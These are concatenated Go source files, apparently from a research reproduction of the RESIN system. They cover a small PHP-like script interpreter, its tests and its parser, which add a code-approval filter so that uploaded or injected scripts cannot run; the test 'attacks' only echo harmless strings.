	tx.done = true
	return nil
}

// Rollback abandons the transaction.
func (tx *Tx) Rollback() error {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return ErrTxDone
	}
	tx.done = true
	return nil
}

// Done reports whether the transaction has finished.
func (tx *Tx) Done() bool {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	return tx.done
}
