package script

import (
	"errors"
	"fmt"

	"resin/internal/core"
	"resin/internal/vfs"
)

// CodeApproval is the policy of Figure 6: an empty policy object attached
// to every file the developer marks executable. The interpreter's import
// filter requires it on every character of loaded code, so
// adversary-uploaded files — which lack the policy — are never executed.
type CodeApproval struct{}

// ExportCheck always passes (Figure 6: "function export_check($context) {}").
func (p *CodeApproval) ExportCheck(ctx *core.Context) error { return nil }

func init() {
	core.RegisterPolicyClass("resin.CodeApproval", &CodeApproval{})
}

// IsCodeApproval reports whether p is a CodeApproval policy.
func IsCodeApproval(p core.Policy) bool {
	_, ok := p.(*CodeApproval)
	return ok
}

// ErrNotExecutable is the Figure 6 rejection: loaded code lacks the
// CodeApproval policy on some character.
var ErrNotExecutable = errors.New("script: not executable (missing CodeApproval policy)")

// ApprovedCodeFilter is the InterpreterFilter of Figure 6: a read filter
// that only allows code whose every character carries a CodeApproval
// policy. It replaces the interpreter's default import filter — the
// default filter "always permits data that has no policy", which is
// exactly wrong for code.
type ApprovedCodeFilter struct{}

// FilterRead verifies the CodeApproval policy on each character of buf.
func (f *ApprovedCodeFilter) FilterRead(ch *core.Channel, data core.String, off int64) (core.String, error) {
	if !data.HasPolicyEverywhere(IsCodeApproval) {
		return core.String{}, &core.AssertionError{
			Context: ch.Context(), Op: "read_check", Err: ErrNotExecutable,
		}
	}
	return data, nil
}

// MakeFileExecutable is Figure 6's make_file_executable: the developer
// reads the installed file, tags its contents with a persistent
// CodeApproval policy, and writes it back. The policy rides in the file's
// extended attributes from then on.
func MakeFileExecutable(fs *vfs.FS, path string) error {
	data, err := fs.ReadFile(path, nil)
	if err != nil {
		return err
	}
	return fs.WriteFile(path, data.WithPolicy(&CodeApproval{}), nil)
}

// Value is an RSL runtime value.
type Value struct {
	Kind ValueKind
	Str  core.String
	Num  int64
	Bool bool
}

// ValueKind discriminates RSL values.
type ValueKind int

// Value kinds.
const (
	VString ValueKind = iota
	VNumber
	VBool
	VNull
)

// StringValue wraps a tracked string as an RSL value.
func StringValue(s core.String) Value { return Value{Kind: VString, Str: s} }

// NumberValue wraps an integer as an RSL value.
func NumberValue(n int64) Value { return Value{Kind: VNumber, Num: n} }

// BoolValue wraps a bool as an RSL value.
func BoolValue(b bool) Value { return Value{Kind: VBool, Bool: b} }

// NullValue is the RSL null.
func NullValue() Value { return Value{Kind: VNull} }

// Render converts a value to tracked text for echo.
func (v Value) Render() core.String {
	switch v.Kind {
	case VString:
		return v.Str
	case VNumber:
		return core.NewInt(v.Num).ToString()
	case VBool:
		if v.Bool {
			return core.NewString("true")
		}
		return core.NewString("false")
	default:
		return core.String{}
	}
}

// Truthy reports the value's boolean interpretation.
func (v Value) Truthy() bool {
	switch v.Kind {
	case VString:
		return v.Str.Len() > 0
	case VNumber:
		return v.Num != 0
	case VBool:
		return v.Bool
	default:
		return false
	}
}

// Builtin is a host function callable from RSL.
type Builtin func(args []Value) (Value, error)

// RuntimeError is an RSL evaluation error.
type RuntimeError struct{ Msg string }

func (e *RuntimeError) Error() string { return "script: " + e.Msg }

func rerrf(format string, args ...any) error {
	return &RuntimeError{Msg: fmt.Sprintf(format, args...)}
}

// Interp is the RSL interpreter. Code reaches it only through the
// code-import channel; applications replace the channel's filters to
// enforce the script-injection assertion.
type Interp struct {
	rt       *core.Runtime
	fs       *vfs.FS
	importCh *core.Channel
	builtins map[string]Builtin
	// MaxSteps bounds execution to keep runaway scripts from hanging the
	// host; 0 means the default (100k statements).
	MaxSteps int
}

// New returns an interpreter bound to rt loading code from fs. The import
// channel starts with the permissive default filter (ReadCheckFilter):
// like the paper's default boundary, it checks policies that are present
// but passes code with no policy at all.
func New(rt *core.Runtime, fs *vfs.FS) *Interp {
	in := &Interp{
		rt:       rt,
		fs:       fs,
		importCh: core.NewChannel(rt, core.KindCode, core.ReadCheckFilter{}),
		builtins: make(map[string]Builtin),
	}
	rt.RegisterChannel("interpreter", in.importCh)
	return in
}

// ImportChannel returns the interpreter's code-import boundary — the
// programmer overrides its filters "in a global configuration file, to
// ensure the filter is set before any other code executes" (§5.2).
func (in *Interp) ImportChannel() *core.Channel { return in.importCh }

// RequireApprovedCode replaces the import filter with the Figure 6
// assertion filter.
func (in *Interp) RequireApprovedCode() {
	in.importCh.SetFilters(&ApprovedCodeFilter{})
}

// Register adds a host builtin callable from scripts.
func (in *Interp) Register(name string, fn Builtin) { in.builtins[name] = fn }

// env is a script execution scope.
type env struct {
	vars  map[string]Value
	funcs map[string]*funcStmt
}

func newEnv() *env {
	return &env{vars: make(map[string]Value), funcs: make(map[string]*funcStmt)}
}

// execState carries per-run interpreter state.
type execState struct {
	in    *Interp
	out   *core.Channel
	steps int
	max   int
	ret   *Value // non-nil while unwinding a return
}

// RunFile loads the file at path through the code-import channel and
// executes it; echo output goes to out (which may be an HTTP response
// channel, so output assertions still apply). ctx carries the requesting
// user for the file read.
func (in *Interp) RunFile(path string, out *core.Channel, ctx *core.Context) error {
	src, err := in.fs.ReadFile(path, ctx)
	if err != nil {
		return err
	}
	code, err := in.importCh.Read(src)
	if err != nil {
		return err
	}
	return in.run(code, out)
}

// RunSource executes source text through the import channel (the eval
// path — the same boundary guards it).
func (in *Interp) RunSource(src core.String, out *core.Channel) error {
	code, err := in.importCh.Read(src)
	if err != nil {
		return err
	}
	return in.run(code, out)
}

func (in *Interp) run(code core.String, out *core.Channel) error {
	prog, err := parseRSL(code)
	if err != nil {
		return err
	}
	max := in.MaxSteps
	if max <= 0 {
		max = 100000
	}
	st := &execState{in: in, out: out, max: max}
	return st.execBlock(prog, newEnv())
}

func (st *execState) step() error {
	st.steps++
	if st.steps > st.max {
		return rerrf("execution exceeded %d steps", st.max)
	}
	return nil
}

func (st *execState) execBlock(stmts []stmt, e *env) error {
	for _, s := range stmts {
		if err := st.exec(s, e); err != nil {
			return err
		}
		if st.ret != nil {
			return nil
		}
	}
	return nil
}

func (st *execState) exec(s stmt, e *env) error {
	if err := st.step(); err != nil {
		return err
	}
	switch v := s.(type) {
	case *echoStmt:
		val, err := st.eval(v.x, e)
		if err != nil {
			return err
		}
		if st.out == nil {
			return rerrf("echo with no output channel")
		}
		return st.out.Write(val.Render())
	case *letStmt:
		val, err := st.eval(v.x, e)
		if err != nil {
			return err
		}
		e.vars[v.name] = val
		return nil
	case *assignStmt:
		if _, ok := e.vars[v.name]; !ok {
			return rerrf("assignment to undeclared variable %q", v.name)
		}
		val, err := st.eval(v.x, e)
		if err != nil {
			return err
		}
		e.vars[v.name] = val
		return nil
	case *ifStmt:
		cond, err := st.eval(v.cond, e)
		if err != nil {
			return err
		}
		if cond.Truthy() {
			return st.execBlock(v.then, e)
		}
		return st.execBlock(v.else_, e)
	case *whileStmt:
		for {
			cond, err := st.eval(v.cond, e)
			if err != nil {
				return err
			}
			if !cond.Truthy() {
				return nil
			}
			if err := st.execBlock(v.body, e); err != nil {
				return err
			}
			if st.ret != nil {
				return nil
			}
		}
	case *includeStmt:
		p, err := st.eval(v.path, e)
		if err != nil {
			return err
		}
		if p.Kind != VString {
			return rerrf("include path must be a string")
		}
		// The included file flows through the same import channel — this
		// is the attack surface of theme/plugin loading, and the reason
		// the approval filter must guard *all* code paths.
		src, err := st.in.fs.ReadFile(p.Str.Raw(), nil)
		if err != nil {
			return err
		}
		code, err := st.in.importCh.Read(src)
		if err != nil {
			return err
		}
		prog, err := parseRSL(code)
		if err != nil {
			return err
		}
		return st.execBlock(prog, e) // include shares scope, like PHP
	case *returnStmt:
		val, err := st.eval(v.x, e)
		if err != nil {
			return err
		}
		st.ret = &val
		return nil
	case *funcStmt:
		e.funcs[v.name] = v
		return nil
	case *exprStmt:
		_, err := st.eval(v.x, e)
		return err
	default:
		return rerrf("unknown statement %T", s)
	}
}

func (st *execState) eval(x expr, e *env) (Value, error) {
	if err := st.step(); err != nil {
		return Value{}, err
	}
	switch v := x.(type) {
	case *strLit:
		return StringValue(v.v), nil
	case *numLit:
		return NumberValue(v.v), nil
	case *boolLit:
		return BoolValue(v.v), nil
	case *varRef:
		val, ok := e.vars[v.name]
		if !ok {
			return Value{}, rerrf("undefined variable %q", v.name)
		}
		return val, nil
	case *notExpr:
		val, err := st.eval(v.x, e)
		if err != nil {
			return Value{}, err
		}
		return BoolValue(!val.Truthy()), nil
	case *callExpr:
		return st.call(v, e)
	case *binExpr:
		return st.binop(v, e)
	default:
		return Value{}, rerrf("unknown expression %T", x)
	}
}

func (st *execState) call(c *callExpr, e *env) (Value, error) {
	args := make([]Value, len(c.args))
	for i, a := range c.args {
		v, err := st.eval(a, e)
		if err != nil {
			return Value{}, err
		}
		args[i] = v
	}
	if fn, ok := e.funcs[c.name]; ok {
		if len(args) != len(fn.params) {
			return Value{}, rerrf("%s expects %d args, got %d", c.name, len(fn.params), len(args))
		}
		// Script functions get a fresh variable scope sharing functions.
		fe := &env{vars: make(map[string]Value), funcs: e.funcs}
		for i, p := range fn.params {
			fe.vars[p] = args[i]
		}
		if err := st.execBlock(fn.body, fe); err != nil {
			return Value{}, err
		}
		if st.ret != nil {
			out := *st.ret
			st.ret = nil
			return out, nil
		}
		return NullValue(), nil
	}
	if fn, ok := st.in.builtins[c.name]; ok {
		return fn(args)
	}
	return Value{}, rerrf("undefined function %q", c.name)
}

func (st *execState) binop(b *binExpr, e *env) (Value, error) {
	l, err := st.eval(b.l, e)
	if err != nil {
		return Value{}, err
	}
	// Short-circuit logic.
	switch b.op {
	case "&&":
		if !l.Truthy() {
			return BoolValue(false), nil
		}
		r, err := st.eval(b.r, e)
		if err != nil {
			return Value{}, err
		}
		return BoolValue(r.Truthy()), nil
	case "||":
		if l.Truthy() {
			return BoolValue(true), nil
		}
		r, err := st.eval(b.r, e)
		if err != nil {
			return Value{}, err
		}
		return BoolValue(r.Truthy()), nil
	}
	r, err := st.eval(b.r, e)
	if err != nil {
		return Value{}, err
	}
	switch b.op {
	case ".":
		return StringValue(core.Concat(l.Render(), r.Render())), nil
	case "+", "-", "*", "/":
		if l.Kind != VNumber || r.Kind != VNumber {
			return Value{}, rerrf("arithmetic on non-numbers")
		}
		switch b.op {
		case "+":
			return NumberValue(l.Num + r.Num), nil
		case "-":
			return NumberValue(l.Num - r.Num), nil
		case "*":
			return NumberValue(l.Num * r.Num), nil
		default:
			if r.Num == 0 {
				return Value{}, rerrf("division by zero")
			}
			return NumberValue(l.Num / r.Num), nil
		}
	case "==", "!=":
		eq, err := valuesEqual(l, r)
		if err != nil {
			return Value{}, err
		}
		if b.op == "!=" {
			eq = !eq
		}
		return BoolValue(eq), nil
	case "<", "<=", ">", ">=":
		cmp, err := valuesCompare(l, r)
		if err != nil {
			return Value{}, err
		}
		switch b.op {
		case "<":
			return BoolValue(cmp < 0), nil
		case "<=":
			return BoolValue(cmp <= 0), nil
		case ">":
			return BoolValue(cmp > 0), nil
		default:
			return BoolValue(cmp >= 0), nil
		}
	default:
		return Value{}, rerrf("unknown operator %q", b.op)
	}
}

func valuesEqual(l, r Value) (bool, error) {
	if l.Kind != r.Kind {
		return false, nil
	}
	switch l.Kind {
	case VString:
		return l.Str.Raw() == r.Str.Raw(), nil
	case VNumber:
		return l.Num == r.Num, nil
	case VBool:
		return l.Bool == r.Bool, nil
	default:
		return true, nil
	}
}

func valuesCompare(l, r Value) (int, error) {
	if l.Kind == VNumber && r.Kind == VNumber {
		switch {
		case l.Num < r.Num:
			return -1, nil
		case l.Num > r.Num:
			return 1, nil
		default:
			return 0, nil
		}
	}
	if l.Kind == VString && r.Kind == VString {
		ls, rs := l.Str.Raw(), r.Str.Raw()
		switch {
		case ls < rs:
			return -1, nil
		case ls > rs:
			return 1, nil
		default:
			return 0, nil
		}
	}
	return 0, rerrf("cannot compare %v and %v", l.Kind, r.Kind)
}
