package script

import (
	"errors"
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
	"resin/internal/vfs"
)

func setup(t *testing.T) (*core.Runtime, *vfs.FS, *Interp, *core.Channel) {
	t.Helper()
	rt := core.NewRuntime()
	fs := vfs.New(rt)
	in := New(rt, fs)
	out := core.NewChannel(rt, core.KindHTTP, core.ExportCheckFilter{})
	return rt, fs, in, out
}

func runSrc(t *testing.T, in *Interp, out *core.Channel, src string) error {
	t.Helper()
	return in.RunSource(core.NewString(src), out)
}

func TestEchoAndArithmetic(t *testing.T) {
	_, _, in, out := setup(t)
	err := runSrc(t, in, out, `
		let x = 3;
		let y = 4;
		echo "sum=" . (x + y) . " prod=" . (x * y) . " diff=" . (x - y) . " div=" . (y / x);
	`)
	if err != nil {
		t.Fatal(err)
	}
	if out.RawOutput() != "sum=7 prod=12 diff=-1 div=1" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestControlFlow(t *testing.T) {
	_, _, in, out := setup(t)
	err := runSrc(t, in, out, `
		let i = 0;
		let acc = "";
		while (i < 5) {
			if (i == 2) { acc = acc . "[two]"; } else { acc = acc . i; }
			i = i + 1;
		}
		echo acc;
		if (true && !false || false) { echo "|logic"; }
	`)
	if err != nil {
		t.Fatal(err)
	}
	if out.RawOutput() != "01[two]34|logic" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestComparisons(t *testing.T) {
	_, _, in, out := setup(t)
	err := runSrc(t, in, out, `
		if ("abc" < "abd") { echo "s<"; }
		if (2 >= 2) { echo "n>="; }
		if ("x" == "x") { echo "s=="; }
		if (1 != 2) { echo "n!="; }
		if ("1" == 1) { echo "MIXED"; }
	`)
	if err != nil {
		t.Fatal(err)
	}
	if out.RawOutput() != "s<n>=s==n!=" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestUserFunctions(t *testing.T) {
	_, _, in, out := setup(t)
	err := runSrc(t, in, out, `
		func greet(name, excl) {
			if (excl) { return "Hi, " . name . "!"; }
			return "Hi, " . name;
		}
		echo greet("ada", true);
		echo greet("bob", false);
	`)
	if err != nil {
		t.Fatal(err)
	}
	if out.RawOutput() != "Hi, ada!Hi, bob" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestBuiltins(t *testing.T) {
	_, _, in, out := setup(t)
	in.Register("upper", func(args []Value) (Value, error) {
		return StringValue(args[0].Str.ToUpper()), nil
	})
	if err := runSrc(t, in, out, `echo upper("shout");`); err != nil {
		t.Fatal(err)
	}
	if out.RawOutput() != "SHOUT" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestPolicyFlowsThroughScript(t *testing.T) {
	rt, _, in, out := setup(t)
	_ = rt
	taintP := &sanitize.UntrustedData{Source: "test"}
	in.Register("userinput", func(args []Value) (Value, error) {
		return StringValue(core.NewStringPolicy("<evil>", taintP)), nil
	})
	if err := runSrc(t, in, out, `echo "pre-" . userinput() . "-post";`); err != nil {
		t.Fatal(err)
	}
	body := out.Output()
	if body.Raw() != "pre-<evil>-post" {
		t.Fatalf("raw = %q", body.Raw())
	}
	// The tainted middle keeps its policy through script concatenation.
	mid := body.Slice(4, 10)
	if !mid.HasPolicyEverywhere(sanitize.IsUntrusted) {
		t.Error("script concat must propagate policies")
	}
	if body.Slice(0, 4).IsTainted() {
		t.Error("script literal gained policies")
	}
}

func TestRuntimeErrors(t *testing.T) {
	_, _, in, out := setup(t)
	cases := []string{
		`echo nope;`,
		`x = 1;`,                            // undeclared assign
		`echo missing();`,                   // undefined function
		`echo 1 + "s";`,                     // arithmetic on string
		`echo 1 / 0;`,                       // division by zero
		`echo ("a" < 1);`,                   // incomparable
		`func f(a) { return a; } echo f();`, // arity
		`include 42;`,                       // non-string include
	}
	for _, src := range cases {
		if err := runSrc(t, in, out, src); err == nil {
			t.Errorf("%q should fail", src)
		}
	}
}

func TestSyntaxErrors(t *testing.T) {
	_, _, in, out := setup(t)
	cases := []string{
		`echo "unterminated;`,
		`let = 3;`,
		`if x { }`,
		`echo 1 +;`,
		`while (1) echo 1;`,
		`let x & 3;`,
		`@`,
	}
	for _, src := range cases {
		if err := runSrc(t, in, out, src); err == nil {
			t.Errorf("%q should fail to parse", src)
		}
	}
}

func TestStepLimitStopsRunaway(t *testing.T) {
	_, _, in, out := setup(t)
	in.MaxSteps = 1000
	err := runSrc(t, in, out, `let i = 0; while (true) { i = i + 1; }`)
	if err == nil || !strings.Contains(err.Error(), "steps") {
		t.Errorf("runaway loop should hit the step limit: %v", err)
	}
}

func TestRunFileAndInclude(t *testing.T) {
	_, fs, in, out := setup(t)
	fs.MkdirAll("/app", nil)
	fs.WriteFile("/app/lib.rsl", core.NewString(`func tag(s) { return "<" . s . ">"; }`), nil)
	fs.WriteFile("/app/main.rsl", core.NewString(`include "/app/lib.rsl"; echo tag("b");`), nil)
	if err := in.RunFile("/app/main.rsl", out, nil); err != nil {
		t.Fatal(err)
	}
	if out.RawOutput() != "<b>" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestApprovedCodeFilterBlocksUnapproved(t *testing.T) {
	_, fs, in, out := setup(t)
	fs.MkdirAll("/app", nil)
	fs.MkdirAll("/uploads", nil)
	fs.WriteFile("/app/theme.rsl", core.NewString(`echo "legit theme";`), nil)
	// Developer approves the installed code.
	if err := MakeFileExecutable(fs, "/app/theme.rsl"); err != nil {
		t.Fatal(err)
	}
	// Adversary uploads a file with code in it.
	fs.WriteFile("/uploads/avatar.png", core.NewString(`echo "owned";`), nil)

	in.RequireApprovedCode()

	if err := in.RunFile("/app/theme.rsl", out, nil); err != nil {
		t.Fatalf("approved code must run: %v", err)
	}
	if out.RawOutput() != "legit theme" {
		t.Errorf("output = %q", out.RawOutput())
	}
	err := in.RunFile("/uploads/avatar.png", out, nil)
	if !errors.Is(err, ErrNotExecutable) {
		t.Fatalf("unapproved code must be blocked: %v", err)
	}
}

func TestApprovalSurvivesPersistence(t *testing.T) {
	// The CodeApproval policy rides in the file's xattrs: a fresh
	// interpreter (fresh policy objects) still honours it.
	rt := core.NewRuntime()
	fs := vfs.New(rt)
	fs.MkdirAll("/app", nil)
	fs.WriteFile("/app/a.rsl", core.NewString(`echo "ok";`), nil)
	MakeFileExecutable(fs, "/app/a.rsl")

	in2 := New(rt, fs)
	in2.RequireApprovedCode()
	out := core.NewChannel(rt, core.KindHTTP)
	if err := in2.RunFile("/app/a.rsl", out, nil); err != nil {
		t.Fatalf("persisted approval must be honoured: %v", err)
	}
}

func TestIncludeGoesThroughImportChannel(t *testing.T) {
	// Even if the top-level file is approved, including an unapproved
	// file must fail: the include path is the attack surface.
	_, fs, in, out := setup(t)
	fs.MkdirAll("/app", nil)
	fs.MkdirAll("/uploads", nil)
	fs.WriteFile("/app/main.rsl", core.NewString(`include "/uploads/evil.rsl";`), nil)
	MakeFileExecutable(fs, "/app/main.rsl")
	fs.WriteFile("/uploads/evil.rsl", core.NewString(`echo "owned";`), nil)
	in.RequireApprovedCode()
	if err := in.RunFile("/app/main.rsl", out, nil); !errors.Is(err, ErrNotExecutable) {
		t.Fatalf("unapproved include must be blocked: %v", err)
	}
	if strings.Contains(out.RawOutput(), "owned") {
		t.Error("evil include produced output")
	}
}

func TestPartialApprovalRejected(t *testing.T) {
	// A file that is only partially approved (e.g. attacker appended to an
	// approved file) must be rejected: every character needs the policy.
	_, fs, in, out := setup(t)
	fs.WriteFile("/a.rsl", core.NewString(`echo "ok";`), nil)
	MakeFileExecutable(fs, "/a.rsl")
	// Append unapproved code.
	fs.AppendFile("/a.rsl", core.NewString(` echo "injected";`), nil)
	in.RequireApprovedCode()
	if err := in.RunFile("/a.rsl", out, nil); !errors.Is(err, ErrNotExecutable) {
		t.Fatalf("partially approved code must be blocked: %v", err)
	}
}

func TestDefaultImportFilterPermitsPlainCode(t *testing.T) {
	// Without the assertion, the default filter passes unapproved code —
	// the vulnerable baseline.
	_, fs, in, out := setup(t)
	fs.MkdirAll("/uploads", nil)
	fs.WriteFile("/uploads/evil.rsl", core.NewString(`echo "owned";`), nil)
	if err := in.RunFile("/uploads/evil.rsl", out, nil); err != nil {
		t.Fatalf("default filter should permit policy-less code: %v", err)
	}
	if out.RawOutput() != "owned" {
		t.Errorf("output = %q", out.RawOutput())
	}
}

func TestValueHelpers(t *testing.T) {
	if !StringValue(core.NewString("x")).Truthy() || StringValue(core.String{}).Truthy() {
		t.Error("string truthiness")
	}
	if !NumberValue(1).Truthy() || NumberValue(0).Truthy() {
		t.Error("number truthiness")
	}
	if !BoolValue(true).Truthy() || BoolValue(false).Truthy() || NullValue().Truthy() {
		t.Error("bool/null truthiness")
	}
	if NumberValue(-5).Render().Raw() != "-5" {
		t.Error("number render")
	}
	if BoolValue(true).Render().Raw() != "true" || NullValue().Render().Raw() != "" {
		t.Error("bool/null render")
	}
}

func TestEchoWithoutChannelFails(t *testing.T) {
	_, _, in, _ := setup(t)
	if err := in.RunSource(core.NewString(`echo "x";`), nil); err == nil {
		t.Fatal("echo with nil channel must error")
	}
}
