// Package script is the interpreter substrate of the RESIN reproduction:
// RSL, a small PHP-flavoured scripting language whose code is loaded
// through the interpreter's code-import channel (§3.2.2). "RESIN treats
// the interpreter's execution of script code as another data flow channel,
// with its own filter object" — replacing that filter with one that
// requires a CodeApproval policy on every character implements the
// server-side script injection assertion of §5.2 (Figure 6).
//
// RSL values are tracked: script strings are core.String, so policies flow
// through script execution exactly as they flow through host code, and
// everything a script echoes still crosses the host's output boundary.
package script

import (
	"fmt"
	"strconv"

	"resin/internal/core"
)

// tokKind classifies RSL tokens.
type tokKind int

const (
	tEOF tokKind = iota
	tIdent
	tNumber
	tString
	tOp    // + - * / . == != < <= > >= = ! && ||
	tPunct // ( ) { } , ;
	tKeyword
)

var rslKeywords = map[string]bool{
	"if": true, "else": true, "while": true, "let": true,
	"echo": true, "include": true, "true": true, "false": true,
	"func": true, "return": true,
}

type tok struct {
	kind tokKind
	text string
	val  core.String // tracked literal value for strings
	pos  int
}

// SyntaxError is an RSL lex/parse error.
type SyntaxError struct {
	Pos int
	Msg string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("script: syntax error at byte %d: %s", e.Pos, e.Msg)
}

func lexRSL(src core.String) ([]tok, error) {
	raw := src.Raw()
	var out []tok
	i := 0
	for i < len(raw) {
		c := raw[i]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			i++
		case c == '#': // line comment
			for i < len(raw) && raw[i] != '\n' {
				i++
			}
		case c == '"':
			start := i
			i++
			var b core.Builder
			for i < len(raw) && raw[i] != '"' {
				if raw[i] == '\\' && i+1 < len(raw) {
					esc := raw[i+1]
					_, ps := src.ByteAt(i + 1)
					switch esc {
					case 'n':
						b.AppendBytePolicies('\n', ps)
					case 't':
						b.AppendBytePolicies('\t', ps)
					default:
						b.AppendBytePolicies(esc, ps)
					}
					i += 2
					continue
				}
				_, ps := src.ByteAt(i)
				b.AppendBytePolicies(raw[i], ps)
				i++
			}
			if i >= len(raw) {
				return nil, &SyntaxError{Pos: start, Msg: "unterminated string"}
			}
			i++ // closing quote
			out = append(out, tok{kind: tString, text: raw[start:i], val: b.String(), pos: start})
		case c >= '0' && c <= '9':
			j := i
			for j < len(raw) && raw[j] >= '0' && raw[j] <= '9' {
				j++
			}
			out = append(out, tok{kind: tNumber, text: raw[i:j], pos: i})
			i = j
		case c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'):
			j := i
			for j < len(raw) && (raw[j] == '_' || (raw[j] >= 'a' && raw[j] <= 'z') ||
				(raw[j] >= 'A' && raw[j] <= 'Z') || (raw[j] >= '0' && raw[j] <= '9')) {
				j++
			}
			text := raw[i:j]
			k := tIdent
			if rslKeywords[text] {
				k = tKeyword
			}
			out = append(out, tok{kind: k, text: text, pos: i})
			i = j
		case c == '(' || c == ')' || c == '{' || c == '}' || c == ',' || c == ';':
			out = append(out, tok{kind: tPunct, text: string(c), pos: i})
			i++
		case c == '=' || c == '!' || c == '<' || c == '>':
			if i+1 < len(raw) && raw[i+1] == '=' {
				out = append(out, tok{kind: tOp, text: raw[i : i+2], pos: i})
				i += 2
			} else {
				out = append(out, tok{kind: tOp, text: string(c), pos: i})
				i++
			}
		case c == '&' || c == '|':
			if i+1 < len(raw) && raw[i+1] == c {
				out = append(out, tok{kind: tOp, text: raw[i : i+2], pos: i})
				i += 2
			} else {
				return nil, &SyntaxError{Pos: i, Msg: fmt.Sprintf("unexpected %q", string(c))}
			}
		case c == '+' || c == '-' || c == '*' || c == '/' || c == '.':
			out = append(out, tok{kind: tOp, text: string(c), pos: i})
			i++
		default:
			return nil, &SyntaxError{Pos: i, Msg: fmt.Sprintf("unexpected byte %q", string(c))}
		}
	}
	out = append(out, tok{kind: tEOF, pos: len(raw)})
	return out, nil
}

// AST node types.

type stmt interface{ stmtNode() }

type echoStmt struct{ x expr }
type letStmt struct {
	name string
	x    expr
}
type assignStmt struct {
	name string
	x    expr
}
type ifStmt struct {
	cond        expr
	then, else_ []stmt
}
type whileStmt struct {
	cond expr
	body []stmt
}
type includeStmt struct{ path expr }
type exprStmt struct{ x expr }
type returnStmt struct{ x expr }
type funcStmt struct {
	name   string
	params []string
	body   []stmt
}

func (*echoStmt) stmtNode()    {}
func (*letStmt) stmtNode()     {}
func (*assignStmt) stmtNode()  {}
func (*ifStmt) stmtNode()      {}
func (*whileStmt) stmtNode()   {}
func (*includeStmt) stmtNode() {}
func (*exprStmt) stmtNode()    {}
func (*returnStmt) stmtNode()  {}
func (*funcStmt) stmtNode()    {}

type expr interface{ exprNode() }

type strLit struct{ v core.String }
type numLit struct{ v int64 }
type boolLit struct{ v bool }
type varRef struct{ name string }
type callExpr struct {
	name string
	args []expr
}
type binExpr struct {
	op   string
	l, r expr
}
type notExpr struct{ x expr }

func (*strLit) exprNode()   {}
func (*numLit) exprNode()   {}
func (*boolLit) exprNode()  {}
func (*varRef) exprNode()   {}
func (*callExpr) exprNode() {}
func (*binExpr) exprNode()  {}
func (*notExpr) exprNode()  {}

type rslParser struct {
	toks []tok
	pos  int
}

func parseRSL(src core.String) ([]stmt, error) {
	toks, err := lexRSL(src)
	if err != nil {
		return nil, err
	}
	p := &rslParser{toks: toks}
	var out []stmt
	for p.peek().kind != tEOF {
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		out = append(out, s)
	}
	return out, nil
}

func (p *rslParser) peek() tok { return p.toks[p.pos] }

func (p *rslParser) next() tok {
	t := p.toks[p.pos]
	if p.pos < len(p.toks)-1 {
		p.pos++
	}
	return t
}

func (p *rslParser) errf(format string, args ...any) error {
	return &SyntaxError{Pos: p.peek().pos, Msg: fmt.Sprintf(format, args...)}
}

func (p *rslParser) expectPunct(s string) error {
	t := p.peek()
	if t.kind != tPunct || t.text != s {
		return p.errf("expected %q, got %q", s, t.text)
	}
	p.next()
	return nil
}

func (p *rslParser) parseBlock() ([]stmt, error) {
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	var out []stmt
	for {
		t := p.peek()
		if t.kind == tPunct && t.text == "}" {
			p.next()
			return out, nil
		}
		if t.kind == tEOF {
			return nil, p.errf("unterminated block")
		}
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		out = append(out, s)
	}
}

func (p *rslParser) parseStmt() (stmt, error) {
	t := p.peek()
	if t.kind == tKeyword {
		switch t.text {
		case "echo":
			p.next()
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &echoStmt{x: x}, p.expectPunct(";")
		case "let":
			p.next()
			name := p.peek()
			if name.kind != tIdent {
				return nil, p.errf("expected variable name")
			}
			p.next()
			if op := p.peek(); op.kind != tOp || op.text != "=" {
				return nil, p.errf("expected = in let")
			}
			p.next()
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &letStmt{name: name.text, x: x}, p.expectPunct(";")
		case "if":
			p.next()
			if err := p.expectPunct("("); err != nil {
				return nil, err
			}
			cond, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			then, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			var els []stmt
			if e := p.peek(); e.kind == tKeyword && e.text == "else" {
				p.next()
				els, err = p.parseBlock()
				if err != nil {
					return nil, err
				}
			}
			return &ifStmt{cond: cond, then: then, else_: els}, nil
		case "while":
			p.next()
			if err := p.expectPunct("("); err != nil {
				return nil, err
			}
			cond, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			body, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			return &whileStmt{cond: cond, body: body}, nil
		case "include":
			p.next()
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &includeStmt{path: x}, p.expectPunct(";")
		case "return":
			p.next()
			x, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			return &returnStmt{x: x}, p.expectPunct(";")
		case "func":
			p.next()
			name := p.peek()
			if name.kind != tIdent {
				return nil, p.errf("expected function name")
			}
			p.next()
			if err := p.expectPunct("("); err != nil {
				return nil, err
			}
			var params []string
			for {
				t := p.peek()
				if t.kind == tPunct && t.text == ")" {
					p.next()
					break
				}
				if t.kind != tIdent {
					return nil, p.errf("expected parameter name")
				}
				params = append(params, t.text)
				p.next()
				if c := p.peek(); c.kind == tPunct && c.text == "," {
					p.next()
				}
			}
			body, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			return &funcStmt{name: name.text, params: params, body: body}, nil
		}
	}
	// Assignment or expression statement.
	if t.kind == tIdent {
		nxt := p.toks[p.pos+1]
		if nxt.kind == tOp && nxt.text == "=" {
